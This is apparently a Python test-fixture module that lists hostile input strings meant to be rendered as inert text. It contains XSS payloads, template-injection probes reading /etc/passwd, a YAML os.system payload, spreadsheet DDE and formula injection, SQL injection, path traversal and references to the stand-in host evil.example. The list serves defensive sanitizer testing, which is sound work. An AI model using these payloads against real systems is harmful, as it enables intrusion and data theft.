"""Strings that somebody might put into a record to make a page do something: text, and nothing but text, to us."""

from __future__ import annotations

_SCRIPTS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>", "<script>alert`1`", "<script\n>alert(1)</script\n>", "<script src=data:,alert(1)></script>",
    "<script type=module>import('//evil.example')</script>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<<script>alert(1);//<</script>",
    "<svg><script>alert(1)</script></svg>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
]  # fmt: skip
_ELEMENTS = [
    "<img src=x onerror=alert(1)>", "<img src='x' onerror='alert(1)'/>", "<IMG SRC=javascript:alert(1)>", "<img src=\"x\"onerror=\"alert(1)\">", "<image src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=//evil.example/x.swf>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<body onload=alert(1)>", "<html onmouseover=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>", "<textarea autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>", "<form action=javascript:alert(1)><input type=submit></form>", "<button formaction=javascript:alert(1)>x</button>", "<isindex type=image src=1 onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href='java\tscript:alert(1)'>x</a>", "<a href=\" javascript:alert(1)\">x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>", "<a onclick=alert(1)>x</a>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<style>*{background:url(//evil.example)}</style>",
    "<style>@import '//evil.example/x.css';</style>", "<div style=\"background:url(javascript:alert(1))\">x</div>", "<table background=//evil.example/x.png><tr><td>x</td></tr></table>", "<b data-estimate=quack-relief data-value=99>99%</b>",
    "<template><script>alert(1)</script></template>", "<portal src=//evil.example>", "<x-y onclick=alert(1)>x</x-y>", "<h1>Another title</h1>", "<h2 id=what-it-is>again</h2>", "<p id=figures class=no-data>No data</p>",
    "<!-- comment -->", "<!-- never closed", "--><script>alert(1)</script>", "<!doctype html>", "<![CDATA[<script>alert(1)</script>]]>", "]]><script>alert(1)</script>", "<?php echo 1 ?>", "<?xml version='1.0'?>",
    "<", "<<", "</", "<a", "<a href=", "<a href=\"", "</div></div></div>", "</p></td></tr></table></article></main></body></html>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</noscript><script>alert(1)</script>", "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<listing>x",
]  # fmt: skip
_ATTRIBUTES = [
    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\"/><img src=x onerror=alert(1)>", "` onmouseover=alert(1)", "x\" autofocus onfocus=\"alert(1)",
    "\" style=\"color:red", "\" id=\"figures", "\" data-value=\"99", "\" class=\"no-data", "\\\" onload=\\\"alert(1)", "&quot; onload=&quot;alert(1)", "&#34; onload=&#34;alert(1)", "\"\n onload=\"alert(1)", "\" href=\"javascript:alert(1)",
]  # fmt: skip
_ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;", "&#0000060script>alert(1)", "&lt", "&amp;lt;img src=x&amp;gt;", "&", "&&&", "&#0;", "&#x110000;", "&colon;&lpar;&rpar;",
    "\\u003cscript\\u003ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "\\x3cscript\\x3e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "¼script¾alert(1)¼/script¾", "＜script＞alert(1)＜/script＞",
]  # fmt: skip
_TEMPLATES = [
    "{{ 7*7 }}", "{{7*7}}", "{% raw %}", "{% endraw %}{{ config }}", "{% include '/etc/passwd' %}", "{# comment #}", "{{ ''.__class__.__mro__ }}", "{{ self._TemplateReference__context }}", "{{ site.title }}", "{{ page.meta }}", "{%- for x in range(9) -%}x{%- endfor -%}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{{ x }}}", "{{ content | safe }}", "{{ 'x' | url }}", "*{7*7}", "@{7*7}", "%(x)s %s %d", "{0} {x.__class__}", "$x ${x} $$", "{: onclick=\"alert(1)\" }", "{: #what-it-is .no-data }", "{ onclick=alert(1) }", "x {: style=\"color:red\" }",
]  # fmt: skip
_MARKDOWN = [
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html,<b>x</b>)", "[x](vbscript:x)", "[x](//evil.example)", "[x](https://evil.example)", "[x](<javascript:alert(1)>)", "[x](javascript&colon;alert(1))", "[x](treatment/../../etc)", "[x](file:///etc/passwd)",
    "[x](page/home \"a title\")", "[x]( javascript:alert(1) )", "[a [b] c](javascript:alert(1))", "[x](javascript:alert(1)//(y))",
    "![x](//evil.example/x.png)", "![x][1]\n\n[1]: //evil.example/x.png", "[x][1]\n\n[1]: javascript:alert(1)", "[1]: javascript:alert(1)\n\n[1]", "[x]\n\n[x]: data:text/html,x 'title'", "<javascript:alert(1)>", "<https://evil.example>", "<who@evil.example>",
    "https://evil.example", "x\n===", "x\n---", "# A heading", "## A heading {: onclick=alert(1) }", "> a quote", "```\n<script>alert(1)</script>\n```", "    <script>alert(1)</script>", "`<script>alert(1)</script>`", "``` {.x onclick=alert(1)}\nx\n```", "~~~\nx\n~~~", "***", "* * *", "**bold** _em_ `code`",
    "| a | b |\n|---|---|\n| 1 | 2 |", "[^1]\n\n[^1]: note", "*[HTML]: x", "!!! note\n    x", "??? x", "[TOC]", "[ ] x", "\\<script>alert(1)\\</script>", "x  \n<script>alert(1)</script>", "a\n\n<script>alert(1)</script>\n\nb", "a\n\n    <img src=x onerror=alert(1)>", "1. <b>x</b>", "* <b>x</b>", "--8<-- \"/etc/passwd\"", "::: generator.cli", ":fontawesome-brands-x:",
    "<div markdown=1>**x**</div>", "refz0z refz1z", "\ue0000\ue001", "\x02wzxhzdk:0\x03", "\x02klzzwxh:0000\x03", "\x0260\x03",
]  # fmt: skip
_ODD = [
    "\u202eevil\u202c", "\u2066x\u2069", "a\u200bb", "\ufeffx", "\u00adx", "\u2028x", "\u2029x", "\u0085x", "x\x00y", "\x1b[31mred", "\x7f", "\ufffe", "\ufffd", "𝕊𝕔𝕣𝕚𝕡𝕥", "İıſK", "e\u0301\u0301\u0301", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚a̡͊͠l̛ͮ", "👩‍⚕️🏴‍☠️", "ﷺ", " ", "\u00a0", "\t", "x" * 5000, "<b>" * 500, "[" * 300, "*" * 300, "(" * 300, "\"" * 300, "&amp;" * 200, "\\" * 101, "a" * 300 + "!",
    "null", "None", "undefined", "NaN", "true", "~", "[]", "{}", "0", "-", "--", "---", "...", "\\", "\\\\", "'", "\"", "`", ";", "%", "%00", "\r\n", "\r\nSet-Cookie: x=1", "\n\n\n",
]  # fmt: skip
_FORMATS = [
    "[latex]\\input{/etc/passwd}[/latex]", "[$]x[/$]", "[sound:x.mp3]", "[anki:tts lang=en_US]x[/anki:tts]", "{{c1::x}}", "{{FrontSide}}",
    "!!python/object/apply:os.system ['true']", "!!binary x", "*alias", "&anchor x", "--- x", "x: y: z", "? x", "title: \"x\"\ndescription: y", "---\ntitle: x\n---", "=1+1", "=HYPERLINK(\"//evil.example\")", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0", "＝1+1",
    "a,b", "a;b", "a\"b\"c", "\"a\nb\"", "} @article{x, title = {y}", "{", "}", "}}}", "\\}", "\\input{/etc/passwd}", "\\write18{true}", "$\\alpha$", "x % y", "# & _ ^ ~", "\"}],\"x\":[{\"", "\\u0022", "</json>", "../../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "file:///etc/passwd", "javascript:alert(1)", "data:text/html,x", "vbscript:x", "//evil.example/x",
    "'; DROP TABLE x; --", "' OR 1=1", "$(true)", "`true`", "| true", "; true", "../", ".", "..", "con", "x/../y", "a\\b", "*?[x]", "-rf", "--help",
]  # fmt: skip
HOSTILE = list(
    dict.fromkeys([*_SCRIPTS, *_ELEMENTS, *_ATTRIBUTES, *_ENTITIES, *_TEMPLATES, *_MARKDOWN, *_ODD, *_FORMATS])
)
